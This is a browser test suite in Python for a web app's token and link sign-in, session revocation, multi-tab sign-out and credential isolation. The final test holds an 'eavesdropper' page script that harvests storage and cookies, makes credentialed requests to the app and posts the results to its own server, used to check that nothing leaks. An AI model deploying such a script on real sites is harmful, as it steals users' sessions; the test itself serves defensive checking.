"""Who may use the page: sessions begin with a link or a token, and end; other pages get nothing."""

from __future__ import annotations

import asyncio
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from tests.real.pages import in_browser, playing, shot

from .browser import Chromium, Page, own_page
from .conftest import Bus, need

pytestmark = [pytest.mark.real, pytest.mark.xdist_group("heavy")]


SHOWN_AS_WRONG = (
    "[...document.querySelectorAll('.bad')].filter(e => e.checkVisibility()).map(e => e.textContent).join()"
)


OWN_STATUS = """import('/page/session.js').then(({ headers, kept }) =>
fetch('/api/v1/state', { headers: headers(kept()) })).then(a => a.status)"""


@pytest.mark.beside
def test_page_without_rights_asks_for_a_token_and_session_ends_with_it(bus: Bus, tmp_path: Path) -> None:
    """The page by its plain address, under a host name that stands for another machine."""
    playing(bus, tmp_path)
    port = bus.listen.rpartition(":")[2]
    secret = bus.cli("token", "new", "--guest", "default", "--may", "hear").stdout.strip()

    async def test(page: Page) -> None:
        await page.until("!document.querySelector('#login').hidden")
        seen = (
            "[...document.querySelectorAll('button')].filter(b => b.checkVisibility()).map(b => b.textContent).join()"
        )
        assert await page.run(seen) == "Sign in", "controls without a function are hidden"
        assert await page.run("document.querySelector('#login').textContent.includes('millrace page')")
        assert await page.run(SHOWN_AS_WRONG) == "", "a first visit shows no error"
        await shot(page, "first-visit")
        for given, right in (("wrong", False), (secret, True)):
            await page.run(f"document.querySelector('#token').value = {given!r}")
            await page.run("document.querySelector('#login').requestSubmit()")
            await page.until("document.querySelector('#token').value === ''")
            await asyncio.sleep(0.5)
            assert await page.run("document.querySelector('#login').hidden") is right
            assert bool(await page.run(SHOWN_AS_WRONG)) is not right
            if not right:
                assert "not valid" in await page.run("document.querySelector('#wrong').textContent")
                assert await page.run("document.activeElement.id + document.activeElement.ariaInvalid") == "tokentrue"
                await shot(page, "wrong-token")
        assert "Listen" in await page.run(seen)
        assert secret not in await page.run("location.href + document.documentElement.outerHTML")
        assert secret not in await page.run("JSON.stringify({ ...localStorage, ...sessionStorage })")
        assert await page.run("document.cookie") == ""
        assert await page.run("document.querySelector('#rights').hidden") is True
        assert await page.run(OWN_STATUS) == 200
        assert await page.run("fetch('/api/v1/state').then(a => a.status)") == 401, (
            "no credential is sent automatically"
        )
        bus.cli("token", "revoke", "token/1")
        assert await page.run(OWN_STATUS) == 401
        for again in (False, True):
            # A stored session that has ended leads back to the sign-in form.
            if again:
                await page.open("about:blank")
                await page.open(f"http://millrace.test:{port}/")
            await page.until("!document.querySelector('#login').hidden")
            assert await page.run(seen) == "Sign in"
            why = await page.run("document.querySelector('#why').textContent")
            assert why.startswith("Your session has ended") and why.endswith("Sign in again."), why
            assert await page.run(SHOWN_AS_WRONG) == ""

    need("chromium")

    async def main() -> None:
        flag = f"--host-resolver-rules=MAP millrace.test 127.0.0.1:{port}"
        async with own_page(tmp_path / "profile", flag) as page:
            await page.open(f"http://millrace.test:{port}/#in=mr_used")
            await page.until("document.querySelector('#why').textContent.includes('This link has already been used')")
            # The cookie that Millrace 0.1 used instead.
            await page.run("document.cookie = 'millrace-0123456789=b3duZXI.a.b'")
            await page.open("about:blank")
            await page.open(f"http://millrace.test:{port}/")
            await page.run("document.cookie = 'millrace-0123456789=; max-age=0'")
            await test(page)

    asyncio.run(main())


SHOWN = "document.querySelector('#guest')?.value && document.querySelector('#login').hidden"


@pytest.mark.beside
def test_browser_stays_signed_in_across_reload_and_tabs_until_signed_out(chromium: Chromium, bus: Bus) -> None:
    async def test(page: Page) -> None:
        await page.until(SHOWN)
        assert "#" not in await page.run("location.href"), "the link is removed from the history"
        await page.open("about:blank")
        await page.open(f"http://{bus.listen}/")
        await page.until(SHOWN)
        await page.run("void (globalThis.second = window.open(location.href))")
        await page.until("second.document.readyState === 'complete' && second.document.querySelector('#guest')?.value")
        session = await page.run("import('/page/session.js').then(s => s.kept())")
        await page.run("second.document.querySelector('#leave').click()")
        for where in ("document", "second.document"):
            await page.until(f"!{where}.querySelector('#login').hidden")
            await page.until(f"{where}.querySelector('#status').textContent === 'signed out'")
        assert await page.run("localStorage.length") == 0
        # A copy of the session is worthless too.
        status = f"fetch('/api/v1/state', {{ headers: {{ Authorization: 'Bearer {session}' }} }}).then(a => a.status)"
        await page.until(f"{status}.then(s => s === 401)")
        # Signing in again in one tab signs the other in.
        link = bus.link().partition("#in=")[2]
        await page.run(f"second.document.querySelector('#token').value = {link!r}")
        await page.run("second.document.querySelector('#login').requestSubmit()")
        await page.until(SHOWN)
        # A guest that has been removed is not requested again and again.
        bus.cli("guest", "add", "alice")
        await page.until("[...document.querySelector('#guest').options].some(o => o.value === 'alice')")
        await page.run(
            "(() => { const g = document.querySelector('#guest'); g.value = 'alice';"
            " g.dispatchEvent(new Event('change')); })()"
        )
        await page.until("millrace.state.guests.map(g => g.name).join() === 'alice'")
        bus.cli("guest", "remove", "alice")
        await page.until("document.querySelector('#missing').checkVisibility()")
        assert await page.run("document.querySelector('#status').textContent") == "connected"

    in_browser(chromium, bus, test)


@pytest.mark.beside
def test_link_signs_in_in_a_tab_that_already_shows_the_page(chromium: Chromium, bus: Bus) -> None:
    """The browser loads nothing there, as only the fragment of the address changes."""

    async def test(page: Page) -> None:
        bad = "document.querySelector('#why.bad')"
        await page.until("document.querySelector('#login').checkVisibility()")
        await page.run(f"void (location.href = {bus.link()!r})")
        await page.until(SHOWN)
        assert "#" not in await page.run("location.href")
        # The same of one who is signed in already, and of a link that is used up.
        session = await page.run("import('/page/session.js').then(s => s.kept())")
        used = bus.link()
        await page.run(f"void (location.href = {used!r})")
        await page.until(f"import('/page/session.js').then(s => s.kept() !== {session!r})")
        await page.until(f"{SHOWN} && !location.hash")
        await page.run("document.querySelector('#leave').click()")
        await page.until("document.querySelector('#login').checkVisibility()")
        await page.run(f"void (location.href = {used!r})")
        await page.until(f"{bad}?.textContent.includes('already been used')")
        assert "#" not in await page.run("location.href")
        # A token that is tried next has a message of its own, and one only.
        await page.run("document.querySelector('#token').value = 'wrong'")
        await page.run("document.querySelector('#login').requestSubmit()")
        await page.until("document.querySelector('#wrong').textContent.includes('not valid')")
        assert await page.run(bad) is None

    in_browser(chromium, bus, test, f"http://{bus.listen}/")


EAVESDROPPER = """<!doctype html><img src="/picture"><script>
const away = 'HERE', told = (what) => fetch('/kept', { method: 'POST', body: JSON.stringify(what) });
told({ ...localStorage, ...sessionStorage, cookie: document.cookie });
for (const path of ['/', '/api/v1/state', '/session'])
  fetch(away + path, { credentials: 'include' }).then(a => a.text()).then(text => told({ text }), () => {});
const line = new WebSocket(away.replace('http', 'ws') + '/api/v1/events');
line.onmessage = ({ data }) => told({ text: data });
setTimeout(() => told({}).then(() => { document.title = 'done'; }), 1000);
</script>"""


@pytest.mark.beside
def test_page_on_another_port_gets_no_credential(chromium: Chromium, bus: Bus) -> None:
    """Browsers send cookies to every port of a host, and another user of this machine may listen on one of them."""
    need("chromium")
    got: list[dict[str, str]] = []
    found: list[str] = []

    async def main() -> None:
        async def serve(request: web.Request) -> web.Response:
            got.append(dict(request.headers))
            if request.method == "POST":
                found.extend((await request.json()).values())
            page = EAVESDROPPER.replace("HERE", f"http://{bus.listen}")
            return web.Response(text=page, content_type="text/html")

        app = web.Application()
        app.router.add_route("*", "/{path:.*}", serve)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        async with Page(chromium) as page:
            await page.open(bus.link())
            await page.until(SHOWN)
            await page.open(f"http://127.0.0.1:{runner.addresses[0][1]}/")
            await page.until("document.title === 'done'")
            await page.open(f"http://{bus.listen}/")
            await page.until(SHOWN)
        await runner.cleanup()
        assert len(got) >= 4 and not any("guests" in text for text in found), (got, found)
        dropped = ("host", "connection", "content-length", "origin", "referer", "accept-encoding")
        tries = [
            {name: value for name, value in headers.items() if name.lower() not in dropped and name[:4] != "Sec-"}
            for headers in got
        ] + [{"Authorization": f"Bearer {text}"} for text in found if text]
        async with aiohttp.ClientSession() as http:
            for headers in tries:
                for path in ("/api/v1/state", "/api/v1/events", "/metrics"):
                    async with http.get(f"http://{bus.listen}{path}", headers=headers) as answer:
                        assert answer.status in (401, 429), (path, headers)

    asyncio.run(main())
